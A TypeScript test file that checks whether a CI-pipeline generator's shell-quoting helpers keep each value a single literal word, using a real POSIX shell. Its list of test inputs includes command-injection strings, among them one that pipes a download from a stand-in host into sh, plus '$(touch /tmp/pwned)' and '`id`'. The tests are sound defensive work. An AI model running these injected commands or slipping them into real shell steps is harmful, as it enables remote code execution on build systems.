/**
 * Values in generated shell steps stay one word: checked by a real POSIX shell, which prints
 * each argument it received on its own line.
 */
import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { insideDoubleQuotes, shellWord } from "../../src/render/ci/shell-quote.js";

const HOSTILE = [
  "prod; curl https://evil.example/x | sh",
  "$(touch /tmp/pwned)",
  "`id`",
  "it's",
  'a "quoted" \\ value',
  "new\nline",
  "prod-eu-west-1",
  "arn:aws:eks:eu-west-1:123456789012:cluster/prod",
];

function argsSeenBy(script: string): string[] {
  const out = execFileSync("sh", ["-c", `for a in ${script}; do printf '%s\\0' "$a"; done`], {
    encoding: "utf8",
  });
  return out.split("\0").slice(0, -1);
}

describe("shell quoting of generated CI steps", () => {
  it.each(HOSTILE)("shellWord(%j) is exactly one word", (value) => {
    expect(argsSeenBy(shellWord(value))).toEqual([value]);
  });

  it.each(HOSTILE)("insideDoubleQuotes(%j) stays literal inside double quotes", (value) => {
    expect(argsSeenBy(`"${insideDoubleQuotes(value)}"`)).toEqual([value]);
  });

  it("safe values are written as they are (readable pipelines, unchanged goldens)", () => {
    expect(shellWord("prod-eu-west-1")).toBe("prod-eu-west-1");
    expect(shellWord("prod; id")).toBe("'prod; id'");
  });
});
